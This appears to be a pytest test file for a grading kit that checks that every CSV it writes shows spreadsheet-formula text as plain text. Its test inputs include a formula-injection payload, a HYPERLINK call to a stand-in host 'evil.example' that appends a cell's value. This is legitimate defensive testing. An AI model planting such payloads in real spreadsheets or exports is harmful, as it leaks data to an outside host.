"""Every cell of every CSV the kit writes is shown as text by a spreadsheet (issue 42.4).

A spreadsheet (Excel, LibreOffice Calc, Google Sheets) reads a cell as a formula when it starts with
"=", "+", "-" or "@"; some first trim leading white space, and some take the full-width and other
compatibility forms (＝＋－＠, ﹦﹢﹣﹫, ⁼⁺⁻, ₌₊₋, −) for the ASCII ones. The model below is spelled
out character by character (not by Unicode category, as the kit's ``safe_text.spreadsheet_cell``
decides), at its most eager: it trims every character in ``LEADING`` and reads every character in
``TRIGGERS`` as a formula's start, unless the cell starts with the neutralising "'".
"""

from __future__ import annotations

import csv
import io
import itertools
import re
from pathlib import Path

import pytest

from hwtools.grade import Grader
from hwtools.grade.instructor import canvas, class_summary, classroom
from hwtools.grade.safe_text import csv_text, printable, spreadsheet_cell

KIT = Path(__file__).resolve().parents[2]
pytestmark = [pytest.mark.timeout(120)]

LEADING = [" ", "\u00a0", "\u2028", "\u2029", "\t", "\r", "\n", "\x0b", "\x0c", "\u1680", "\u180e",
           *map(chr, range(0x2000, 0x200c)), "\u202f", "\u205f", "\u3000", "\ufeff", "\u200c", "\u200d", "\u2060"]
TRIGGERS = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "﹢", "﹣", "﹫", "⁼", "⁺", "⁻", "₌", "₊", "₋", "−"]
PAYLOAD = 'HYPERLINK("http:..evil.example?"&A1,"open")'


def read_as_formula(cell):
    """The most eager spreadsheet's reading of one CSV cell."""
    if cell.startswith("'"):
        return False
    trimmed = cell.lstrip("".join(LEADING))
    return trimmed[:1] in TRIGGERS


def dangerous_texts():
    """Every trigger alone and after every leading character, one and three deep."""
    yield from TRIGGERS
    for lead, trigger in itertools.product(LEADING, TRIGGERS):
        yield lead + trigger + PAYLOAD
        yield lead * 3 + "\u00a0" + trigger + PAYLOAD


def test_the_model_reads_these_as_formulas():
    assert all(read_as_formula(text) for text in dangerous_texts())
    assert not read_as_formula("'=1+1") and not read_as_formula("Ada Lovelace") and not read_as_formula("39")


@pytest.mark.quick
def test_every_dangerous_text_becomes_a_cell_shown_as_text_with_nothing_lost():
    texts = list(dangerous_texts())
    assert len(texts) == len(TRIGGERS) * (1 + 2 * len(LEADING))
    for text in texts:
        cell = spreadsheet_cell(text)
        assert not read_as_formula(cell), repr(text)
        assert cell.removeprefix("'") == printable(text) and "\n" not in cell, repr(text)
    for plain in ("ajdoe", "Doe, Jane", "Zoë", "graded", "2.2.1 time limit", "'quoted", ""):
        assert spreadsheet_cell(plain) == plain
    assert spreadsheet_cell(1.5) == 1.5 and spreadsheet_cell(0) == 0, "numbers stay numbers"


def every_cell(path):
    with open(path, newline="", encoding="utf-8") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def test_every_csv_of_a_class_run_shows_every_cell_as_text(tmp_path):
    """A class whose ids start with each leading character and each trigger, and a Canvas roster whose
    names, logins and sections do: every cell of the gradebook, the Canvas import and the class's
    checks table is shown as text."""
    folder = tmp_path / "submissions"
    ids = [lead + trigger + PAYLOAD for lead, trigger in zip(LEADING, itertools.cycle(TRIGGERS))]
    ids += [trigger + lead + PAYLOAD for trigger, lead in zip(TRIGGERS, itertools.cycle(LEADING))]
    ids = [student for student in dict.fromkeys(ids) if not student.startswith(".")]
    for student in ids:
        (folder / student).mkdir(parents=True)  # empty: no student code runs
    roster_rows = [["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "Homework 1 (502)"]]
    roster_rows += [[student, str(1000 + number), student, student, f" -Section {number}", ""]
                    for number, student in enumerate(ids)]
    export = tmp_path / "export.csv"
    with open(export, "w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows(roster_rows)
    grades = tmp_path / "grades.csv"
    report = classroom.grade_class(folder, grades, tmp_path / "fb", grader=Grader(KIT, time_limit=5, jobs=1), jobs=1,
                                   roster=canvas.read_roster(export))
    assert len(report.students) == len(ids) and report.canvas.not_written == {}
    written = [grades, classroom.canvas_file(grades), class_summary.paths(grades)[0]]
    cells = {path.name: every_cell(path) for path in written}
    assert sum(len(found) for found in cells.values()) > 800
    for name, found in cells.items():
        assert not [cell for cell in found if read_as_formula(cell)], name
    shown = every_cell(classroom.canvas_file(grades))
    assert sum(PAYLOAD in cell for cell in shown) == 3 * len(ids), "each id in Student, SIS User ID, SIS Login ID"


def test_every_csv_the_kit_writes_goes_through_the_one_writer():
    """``safe_text.csv_text`` is the kit's only CSV writer: no other module of the kit (its code, the
    instructor's tools, the benchmarks) makes a csv writer or writes rows itself."""
    sources = [path for folder in ("hwlib", "hwtools", "instructor", "benchmarks") for path in (KIT / folder).rglob("*.py")]
    assert len(sources) > 50
    writers = {path.relative_to(KIT).as_posix() for path in sources
               if re.search(r"csv\.(writer|DictWriter)\b|\.writerows?\(|\.to_csv\(", path.read_text(encoding="utf-8"))}
    assert writers == {"hwtools/grade/safe_text.py"}


def test_csv_text_writes_rows_a_reader_gives_back():
    rows = [["a", 'b "quoted", with a comma', 1.5], ["Zoë", "", 0]]
    assert list(csv.reader(io.StringIO(csv_text(rows)))) == [["a", 'b "quoted", with a comma', "1.5"], ["Zoë", "", "0"]]
